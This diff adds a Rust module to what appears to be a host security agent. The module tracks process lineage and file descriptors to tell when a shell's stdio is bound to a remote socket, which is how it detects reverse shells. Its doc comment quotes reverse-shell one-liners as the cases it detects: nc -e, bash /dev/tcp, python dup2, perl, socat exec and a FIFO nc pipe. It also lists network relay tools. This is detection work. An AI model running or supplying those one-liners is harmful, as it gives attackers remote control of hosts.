@@ -1,0 +1,602 @@
+//! The process table: one entry per live (or recently exited) process with its lineage, what
+//! it runs, its fds 0-2, and whether its standard input/output is *bound to a remote socket*.
+//!
+//! A process is bound when:
+//! * **stdio**: its own fd 0 or 1 is an AF_INET/AF_INET6 stream socket with a peer at exec
+//!   (`nc -e /bin/sh` hands the socket to the shell), or
+//! * **dup**: fd 0 or 1 was replaced by such a socket after exec (`bash -i >& /dev/tcp/H/P`,
+//!   python `os.dup2(s.fileno(), 0)`, perl `open(STDIN, ">&S")`), or
+//! * **relay**: a network relay tool (socat, nc, ...) with a connected socket is its ancestor
+//!   (`socat exec:'bash -li',pty tcp:H:P` runs bash on a pty that socat feeds from the socket), or
+//! * **pipe**: its stdin is a pipe or FIFO written by a bound process or a connected relay
+//!   (`cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: nc writes the FIFO, cat feeds the shell), or
+//! * **inherited**: its parent was bound when it forked, in the same container
+//!   (a python `pty.spawn("/bin/sh")` shell whose own stdio is a pty).
+//!
+//! Memory is bounded: an exited process is removed once it has no live children, and the
+//! table never holds more than `max_processes` entries (the oldest are evicted and counted).
+
+use rustc_hash::{FxHashMap, FxHashSet};
+use std::collections::VecDeque;
+use std::sync::Arc;
+use ward_event::script::basename;
+use ward_event::{Event, ExecEvent, FdInfo, FdKind, Pid, SocketInfo};
+
+/// How deep lineage walks go (guards against cycles from pid reuse).
+pub const MAX_DEPTH: usize = 32;
+
+#[derive(Debug, Clone)]
+pub struct TableConfig {
+    /// Maximum number of entries; the oldest are evicted beyond it.
+    pub max_processes: usize,
+    /// Programs that relay a network connection to a local process (by program name).
+    pub relay_tools: FxHashSet<String>,
+    /// Maximum number of pipe/FIFO inodes remembered as fed by a remote peer.
+    pub max_fed_pipes: usize,
+}
+
+impl Default for TableConfig {
+    fn default() -> Self {
+        TableConfig {
+            max_processes: 65_536,
+            relay_tools: DEFAULT_RELAY_TOOLS.iter().map(|s| s.to_string()).collect(),
+            max_fed_pipes: 4096,
+        }
+    }
+}
+
+/// Network relay tools whose connected socket is not on their own fds 0-2.
+pub const DEFAULT_RELAY_TOOLS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "socat",
+    "telnet",
+    "openssl",
+    "cryptcat",
+    "pwncat",
+    "sbd",
+    "busybox",
+];
+
+/// The compact state of one of fds 0-2.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct FdState {
+    pub kind: FdKind,
+    pub inode: u64,
+    pub socket: Option<SocketInfo>,
+}
+
+impl From<&FdInfo> for FdState {
+    fn from(f: &FdInfo) -> Self {
+        FdState {
+            kind: f.kind,
+            inode: f.inode,
+            socket: f.socket,
+        }
+    }
+}
+
+impl FdState {
+    fn remote_peer(&self) -> Option<SocketInfo> {
+        match (self.kind, self.socket) {
+            (FdKind::InetSocket, Some(s))
+                if s.protocol == ward_event::Protocol::Tcp && s.has_peer() =>
+            {
+                Some(s)
+            }
+            _ => None,
+        }
+    }
+
+    fn pipe_inode(&self) -> Option<u64> {
+        matches!(self.kind, FdKind::Pipe | FdKind::Fifo)
+            .then_some(self.inode)
+            .filter(|i| *i != 0)
+    }
+}
+
+/// How a process came to be bound to a remote socket.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BindVia {
+    Stdio,
+    Dup,
+    Relay,
+    Pipe,
+}
+
+impl BindVia {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            BindVia::Stdio => "stdio socket at exec",
+            BindVia::Dup => "socket dup'ed onto stdio after exec",
+            BindVia::Relay => "descendant of a network relay",
+            BindVia::Pipe => "stdin piped from a network relay",
+        }
+    }
+}
+
+/// Evidence that a process's standard input/output reaches a remote peer.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Binding {
+    /// The process that holds the socket.
+    pub origin_pid: Pid,
+    pub origin_program: String,
+    pub origin_binary: String,
+    pub socket_inode: u64,
+    pub socket: SocketInfo,
+    pub via: BindVia,
+    pub container_id: Option<Arc<str>>,
+    /// When the binding was observed (ns).
+    pub since: u64,
+}
+
+#[derive(Debug, Clone)]
+pub struct Proc {
+    pub pid: Pid,
+    pub ppid: Pid,
+    /// Time of the fork (or first sighting).
+    pub start: u64,
+    /// The last exec of this process (script contents dropped once detectors ran).
+    pub exec: Option<Arc<ExecEvent>>,
+    pub container_id: Option<Arc<str>>,
+    pub stdio: [FdState; 3],
+    pub exited: Option<u64>,
+    /// Bound through its own fds 0/1.
+    pub own: Option<Arc<Binding>>,
+    /// Bound through an ancestor, a relay ancestor or a pipe.
+    pub inherited: Option<Arc<Binding>>,
+    /// Set on a relay tool once it holds a connected socket.
+    pub relay: Option<Arc<Binding>>,
+    live_children: u32,
+    generation: u64,
+}
+
+impl Proc {
+    /// The binding that applies to this process (an inherited binding of the same socket wins,
+    /// because it names the process that opened it).
+    pub fn binding(&self) -> Option<&Arc<Binding>> {
+        match (&self.own, &self.inherited) {
+            (Some(o), Some(i)) if o.socket_inode != 0 && o.socket_inode == i.socket_inode => {
+                Some(i)
+            }
+            (Some(o), _) => Some(o),
+            (None, i) => i.as_ref(),
+        }
+    }
+
+    pub fn program(&self) -> &str {
+        self.exec.as_deref().map(|e| e.program()).unwrap_or("")
+    }
+
+    /// What children inherit at fork.
+    fn binding_for_children(&self) -> Option<Arc<Binding>> {
+        self.binding().cloned().or_else(|| self.relay.clone())
+    }
+}
+
+/// What applying one event changed, for detectors that react to state changes.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Applied {
+    /// Processes that became bound by this event after their exec (dup, relay, pipe).
+    pub newly_bound: Vec<Pid>,
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct TableStats {
+    pub processes: usize,
+    pub evicted: u64,
+    pub unknown_pid_events: u64,
+    pub fed_pipes_evicted: u64,
+}
+
+pub struct ProcessTable {
+    cfg: TableConfig,
+    procs: FxHashMap<Pid, Proc>,
+    /// Insertion order for eviction; entries whose generation changed are stale.
+    order: VecDeque<(Pid, u64)>,
+    next_generation: u64,
+    /// Pipe/FIFO inodes written by a bound process or a connected relay.
+    fed: FxHashMap<u64, Arc<Binding>>,
+    fed_order: VecDeque<u64>,
+    stats: TableStats,
+}
+
+impl ProcessTable {
+    pub fn new(cfg: TableConfig) -> Self {
+        ProcessTable {
+            cfg,
+            procs: FxHashMap::default(),
+            order: VecDeque::new(),
+            next_generation: 0,
+            fed: FxHashMap::default(),
+            fed_order: VecDeque::new(),
+            stats: TableStats::default(),
+        }
+    }
+
+    pub fn get(&self, pid: Pid) -> Option<&Proc> {
+        self.procs.get(&pid)
+    }
+
+    pub fn len(&self) -> usize {
+        self.procs.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.procs.is_empty()
+    }
+
+    pub fn stats(&self) -> TableStats {
+        TableStats {
+            processes: self.procs.len(),
+            ..self.stats
+        }
+    }
+
+    /// The parent chain of `pid`, nearest first, at most [`MAX_DEPTH`] entries.
+    pub fn ancestors(&self, pid: Pid) -> impl Iterator<Item = &Proc> + '_ {
+        let mut cur = self.procs.get(&pid).map(|p| p.ppid);
+        let mut seen = 0usize;
+        std::iter::from_fn(move || {
+            if seen >= MAX_DEPTH {
+                return None;
+            }
+            let ppid = cur?;
+            if ppid == 0 || Some(ppid) == Some(pid) {
+                return None;
+            }
+            let p = self.procs.get(&ppid)?;
+            seen += 1;
+            cur = (p.ppid != p.pid).then_some(p.ppid);
+            Some(p)
+        })
+    }
+
+    /// Drops the script contents of a process's exec once detectors are done with it.
+    pub fn release_script_contents(&mut self, pid: Pid) {
+        if let Some(p) = self.procs.get_mut(&pid) {
+            if let Some(exec) = p.exec.as_mut().and_then(Arc::get_mut) {
+                if let Some(s) = exec.script.as_mut() {
+                    s.contents = None;
+                }
+            }
+        }
+    }
+
+    /// Seeds an already running process (agent start-up), without children accounting.
+    pub fn seed(&mut self, exec: ExecEvent) {
+        let pid = exec.pid;
+        let ppid = exec.ppid;
+        let time = exec.time;
+        self.insert(pid, ppid, time);
+        self.apply_exec(Box::new(exec), &mut Applied::default());
+    }
+
+    /// Applies one event. For exec, the event is moved into the table; read it back with
+    /// [`ProcessTable::get`].
+    pub fn apply(&mut self, event: Event) -> Applied {
+        let mut applied = Applied::default();
+        match event {
+            Event::Fork(f) => self.apply_fork(f.pid, f.ppid, f.time),
+            Event::Exec(e) => self.apply_exec(e, &mut applied),
+            Event::Exit(x) => self.apply_exit(x.pid, x.time),
+            Event::Fd(d) => {
+                self.apply_fd(d.pid, d.fd, FdState::from(&d.target), d.time, &mut applied)
+            }
+            Event::Socket(s) => self.apply_socket(s.pid, s.inode, s.socket, s.time, &mut applied),
+        }
+        applied
+    }
+
+    fn insert(&mut self, pid: Pid, ppid: Pid, time: u64) -> &mut Proc {
+        if let Some(old) = self.procs.remove(&pid) {
+            // pid reuse (or a missed exit): the old entry is gone.
+            self.child_gone(old.ppid);
+        }
+        self.next_generation += 1;
+        let generation = self.next_generation;
+        self.order.push_back((pid, generation));
+        self.procs.insert(
+            pid,
+            Proc {
+                pid,
+                ppid,
+                start: time,
+                exec: None,
+                container_id: None,
+                stdio: [FdState::default(); 3],
+                exited: None,
+                own: None,
+                inherited: None,
+                relay: None,
+                live_children: 0,
+                generation,
+            },
+        );
+        if let Some(parent) = self.procs.get_mut(&ppid) {
+            parent.live_children += 1;
+        }
+        self.enforce_cap(pid);
+        self.procs.get_mut(&pid).expect("just inserted")
+    }
+
+    fn enforce_cap(&mut self, keep: Pid) {
+        while self.procs.len() > self.cfg.max_processes {
+            let Some((pid, generation)) = self.order.pop_front() else {
+                break;
+            };
+            if pid == keep {
+                self.order.push_back((pid, generation));
+                continue;
+            }
+            if self
+                .procs
+                .get(&pid)
+                .is_some_and(|p| p.generation == generation)
+            {
+                let p = self.procs.remove(&pid).expect("present");
+                self.child_gone(p.ppid);
+                self.stats.evicted += 1;
+            }
+        }
+        // Keep the order queue from growing without bound through stale entries.
+        if self.order.len() > 2 * self.cfg.max_processes.max(16) {
+            let procs = &self.procs;
+            self.order
+                .retain(|(pid, g)| procs.get(pid).is_some_and(|p| p.generation == *g));
+        }
+    }
+
+    fn child_gone(&mut self, ppid: Pid) {
+        let mut cur = ppid;
+        for _ in 0..MAX_DEPTH {
+            let Some(parent) = self.procs.get_mut(&cur) else {
+                return;
+            };
+            parent.live_children = parent.live_children.saturating_sub(1);
+            if parent.exited.is_some() && parent.live_children == 0 {
+                let next = parent.ppid;
+                self.procs.remove(&cur);
+                cur = next;
+            } else {
+                return;
+            }
+        }
+    }
+
+    fn apply_fork(&mut self, pid: Pid, ppid: Pid, time: u64) {
+        let (container_id, stdio, inherited) = match self.procs.get(&ppid) {
+            Some(p) => (p.container_id.clone(), p.stdio, p.binding_for_children()),
+            None => {
+                self.stats.unknown_pid_events += 1;
+                (None, [FdState::default(); 3], None)
+            }
+        };
+        let child = self.insert(pid, ppid, time);
+        child.container_id = container_id;
+        child.stdio = stdio;
+        child.inherited = inherited;
+    }
+
+    fn apply_exec(&mut self, exec: Box<ExecEvent>, applied: &mut Applied) {
+        let pid = exec.pid;
+        if !self.procs.contains_key(&pid) {
+            let ppid = exec.ppid;
+            let parent_state = self.procs.get(&ppid).map(|p| p.binding_for_children());
+            if parent_state.is_none() {
+                self.stats.unknown_pid_events += 1;
+            }
+            let p = self.insert(pid, ppid, exec.time);
+            p.inherited = parent_state.flatten();
+        }
+        let container_id: Option<Arc<str>> = exec.container_id.as_deref().map(Arc::from);
+        let stdio = [
+            FdState::from(&exec.stdio[0]),
+            FdState::from(&exec.stdio[1]),
+            FdState::from(&exec.stdio[2]),
+        ];
+        let time = exec.time;
+        let fed = stdio[0]
+            .pipe_inode()
+            .and_then(|i| self.fed.get(&i).cloned());
+        let p = self.procs.get_mut(&pid).expect("present");
+        p.ppid = exec.ppid;
+        p.stdio = stdio;
+        // Bindings never cross a container boundary.
+        if p.inherited
+            .as_ref()
+            .is_some_and(|b| b.container_id != container_id)
+        {
+            p.inherited = None;
+        }
+        p.container_id = container_id;
+        p.relay = None;
+        p.exec = Some(Arc::from(exec));
+        p.own = own_binding(p, BindVia::Stdio, time);
+        if p.inherited.is_none() {
+            if let Some(b) = fed {
+                if b.container_id == p.container_id {
+                    p.inherited = Some(b);
+                }
+            }
+        }
+        if p.binding().is_some() {
+            self.feed_from(pid, applied);
+        }
+    }
+
+    fn apply_exit(&mut self, pid: Pid, time: u64) {
+        let Some(p) = self.procs.get_mut(&pid) else {
+            self.stats.unknown_pid_events += 1;
+            return;
+        };
+        p.exited = Some(time);
+        if p.live_children == 0 {
+            let ppid = p.ppid;
+            self.procs.remove(&pid);
+            self.child_gone(ppid);
+        }
+    }
+
+    fn apply_fd(&mut self, pid: Pid, fd: u8, state: FdState, time: u64, applied: &mut Applied) {
+        let Some(p) = self.procs.get_mut(&pid) else {
+            self.stats.unknown_pid_events += 1;
+            return;
+        };
+        let Some(slot) = p.stdio.get_mut(fd as usize) else {
+            return;
+        };
+        *slot = state;
+        let was_bound = p.binding().is_some();
+        p.own = own_binding(p, BindVia::Dup, time).or_else(|| {
+            // Keep an existing own binding whose socket is still on fd 0 or 1.
+            p.own.take().filter(|b| {
+                p.stdio[..2]
+                    .iter()
+                    .any(|s| s.inode == b.socket_inode && s.remote_peer().is_some())
+            })
+        });
+        if !was_bound && p.binding().is_some() {
+            applied.newly_bound.push(pid);
+            self.feed_from(pid, applied);
+        }
+    }
+
+    fn apply_socket(
+        &mut self,
+        pid: Pid,
+        inode: u64,
+        socket: SocketInfo,
+        time: u64,
+        applied: &mut Applied,
+    ) {
+        let Some(p) = self.procs.get_mut(&pid) else {
+            self.stats.unknown_pid_events += 1;
+            return;
+        };
+        if !socket.has_peer() || p.relay.is_some() || !self.cfg.relay_tools.contains(p.program()) {
+            return;
+        }
+        let exec = p.exec.as_deref();
+        p.relay = Some(Arc::new(Binding {
+            origin_pid: pid,
+            origin_program: p.program().to_string(),
+            origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
+            socket_inode: inode,
+            socket,
+            via: BindVia::Relay,
+            container_id: p.container_id.clone(),
+            since: time,
+        }));
+        let relay = p.relay.clone().expect("set");
+        // Descendants already running under the relay (socat starts its exec: child first).
+        let descendants: Vec<Pid> = self
+            .procs
+            .values()
+            .filter(|c| c.pid != pid && c.exited.is_none() && c.binding().is_none())
+            .filter(|c| c.container_id == relay.container_id)
+            .filter(|c| self.ancestors(c.pid).any(|a| a.pid == pid))
+            .map(|c| c.pid)
+            .collect();
+        for d in descendants {
+            if let Some(c) = self.procs.get_mut(&d) {
+                c.inherited = Some(relay.clone());
+                applied.newly_bound.push(d);
+            }
+        }
+        // Whatever the relay writes to its stdout pipe carries the peer's input.
+        self.feed_inode(
+            pid,
+            Arc::new(Binding {
+                via: BindVia::Pipe,
+                ..(*relay).clone()
+            }),
+            applied,
+        );
+    }
+
+    /// A bound process's stdout pipe carries remote input to whoever reads it.
+    fn feed_from(&mut self, pid: Pid, applied: &mut Applied) {
+        let Some(b) = self.procs.get(&pid).and_then(|p| p.binding().cloned()) else {
+            return;
+        };
+        let piped = Arc::new(Binding {
+            via: BindVia::Pipe,
+            ..(*b).clone()
+        });
+        self.feed_inode(pid, piped, applied);
+    }
+
+    /// Marks `writer`'s stdout pipe as fed and binds the processes that read it, transitively.
+    fn feed_inode(&mut self, writer: Pid, binding: Arc<Binding>, applied: &mut Applied) {
+        let mut work = vec![writer];
+        let mut steps = 0;
+        while let Some(w) = work.pop() {
+            steps += 1;
+            if steps > 64 {
+                break;
+            }
+            let Some(inode) = self.procs.get(&w).and_then(|p| p.stdio[1].pipe_inode()) else {
+                continue;
+            };
+            if self.fed.contains_key(&inode) {
+                continue;
+            }
+            self.fed.insert(inode, binding.clone());
+            self.fed_order.push_back(inode);
+            while self.fed_order.len() > self.cfg.max_fed_pipes {
+                if let Some(old) = self.fed_order.pop_front() {
+                    self.fed.remove(&old);
+                    self.stats.fed_pipes_evicted += 1;
+                }
+            }
+            let readers: Vec<Pid> = self
+                .procs
+                .values()
+                .filter(|r| r.pid != w && r.pid != binding.origin_pid && r.exited.is_none())
+                .filter(|r| r.stdio[0].pipe_inode() == Some(inode))
+                .filter(|r| r.container_id == binding.container_id)
+                .map(|r| r.pid)
+                .collect();
+            for r in readers {
+                let Some(rp) = self.procs.get_mut(&r) else {
+                    continue;
+                };
+                if rp.binding().is_none() {
+                    rp.inherited = Some(binding.clone());
+                    applied.newly_bound.push(r);
+                }
+                work.push(r);
+            }
+        }
+    }
+}
+
+/// The binding a process gets from its own fds 0 and 1.
+fn own_binding(p: &Proc, via: BindVia, time: u64) -> Option<Arc<Binding>> {
+    let (inode, socket) = p.stdio[..2]
+        .iter()
+        .find_map(|s| s.remote_peer().map(|peer| (s.inode, peer)))?;
+    let exec = p.exec.as_deref();
+    Some(Arc::new(Binding {
+        origin_pid: p.pid,
+        origin_program: exec.map(|e| e.program().to_string()).unwrap_or_default(),
+        origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
+        socket_inode: inode,
+        socket,
+        via,
+        container_id: p.container_id.clone(),
+        since: time,
+    }))
+}
+
+/// Basename helper re-exported for callers matching program names.
+pub fn program_of(path: &str) -> &str {
+    basename(path)
+}
+
+#[cfg(test)]
+mod tests;
